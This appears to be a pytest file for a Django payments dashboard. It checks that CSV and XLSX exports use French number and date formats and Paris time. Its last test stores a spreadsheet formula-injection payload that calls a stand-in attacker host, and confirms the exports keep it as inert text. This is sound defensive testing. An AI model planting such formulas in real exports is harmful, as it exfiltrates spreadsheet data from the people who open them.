"""CSV and XLSX exports hold exactly the filtered rows, euros from cents, Paris time, in the
French conventions a spreadsheet opens (« ; », decimal comma, dd/mm/yyyy)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from payments.services import claims
from tests.dashboard.conftest import URL
from tests.sons.factories import at_paris

pytestmark = pytest.mark.django_db

CLAIMS = URL + "DASH-LGC-V1/demandes-a-deposer/"


def content(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def two_claims(world, frozen, admin_user):
    frozen(at_paris(2022, 11, 20, 12))
    draft = world.avance(world.order(vendor="a"), at=at_paris(2022, 9, 5, 10, 30))
    ready = claims.make_ready(
        claim=world.avance(world.order(vendor="b")), actor=admin_user, at=at_paris(2022, 9, 6)
    )
    return draft, ready


def test_csv_export_of_the_filtered_claims(staff, world, two_claims):
    draft, _ready = two_claims
    response = staff.get(CLAIMS, {"fournisseur": world.vendor_a.pk, "format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="sons_DASH-LGC-V1_demandes-a-deposer_20221120-1200.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1  # the other vendor's claim is filtered out
    (row,) = rows
    assert row["BDC"] == f"BDC-{draft.order_id:08d}"
    assert row["Fournisseur"] == world.vendor_a.name
    assert row["Montant TTC"] == "540,00"
    assert row["Créée le"] == "05/09/2022 10:30"  # Paris summer time, from 08:30 UTC
    assert row["À déposer avant le"] == "30/11/2022 14:00"
    assert row["État"] == "Brouillon"


def test_xlsx_export_of_every_claim(staff, world, two_claims):
    draft, ready = two_claims
    response = staff.get(CLAIMS, {"format": "xlsx"})
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(content(response))).active
    header, *rows = list(sheet.values)
    assert header[:2] == ("BDC", "Fournisseur")
    assert [r[0] for r in rows] == [f"BDC-{draft.order_id:08d}", f"BDC-{ready.order_id:08d}"]
    amount = rows[0][header.index("Montant TTC")]
    assert Decimal(str(amount)) == Decimal("540.00")
    # A spreadsheet cell holds Paris wall-clock time, without a zone.
    assert rows[0][header.index("Créée le")] == at_paris(2022, 9, 5, 10, 30).replace(tzinfo=None)
    assert rows[1][header.index("État")] == "Prête (règles vérifiées)"


def test_exports_of_an_empty_filter_hold_the_header_only(staff, world, two_claims):
    response = staff.get(CLAIMS, {"recherche": "BDC-99999999", "format": "csv"})
    lines = content(response).decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("BDC;Fournisseur")


def test_recoveries_export_amounts_to_the_cent(staff, world, frozen):
    frozen(at_paris(2022, 11, 1, 9))
    world.defaulted_with_recovery()
    response = staff.get(URL + "DASH-LGC-V1/recouvrements/", {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")), delimiter=";")
    assert (row["Reçu"], row["Compensé"], row["À recouvrer"]) == ("540,00", "0,00", "540,00")
    assert row["Ouvert le"] == "12/10/2022 09:00"
    assert row["Notifié le"] == ""


def test_conflicts_export_lists_both_positions(staff, world, frozen):
    frozen(at_paris(2022, 11, 10, 9))
    first, second = world.conflict()
    response = staff.get(URL + "DASH-LGC-V1/conflits/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(content(response))).active
    header, row = list(sheet.values)
    positions = row[header.index("Positions")]
    assert first.reference in positions and second.reference in positions
    respond_by = at_paris(2022, 11, 23, 0, 0).replace(tzinfo=None)
    assert row[header.index("Réponses attendues avant le")] == respond_by


def test_a_client_name_typed_as_a_formula_stays_text_in_both_exports(staff, world, frozen):
    """The administrator's spreadsheet never runs what a vendor typed as a client's name."""
    from tests.sons.factories import ClientFactory

    frozen(at_paris(2022, 11, 20, 12))
    hostile = '=HYPERLINK("https://evil.invalid/?x="&A1,"Cliquez")'
    world.avance(world.order(client=ClientFactory(legal_name=hostile)))
    response = staff.get(CLAIMS, {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")), delimiter=";")
    assert row["Client"] == "'" + hostile
    response = staff.get(CLAIMS, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(content(response))).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Client") + 1)
    assert (cell.data_type, cell.value) == ("s", hostile)
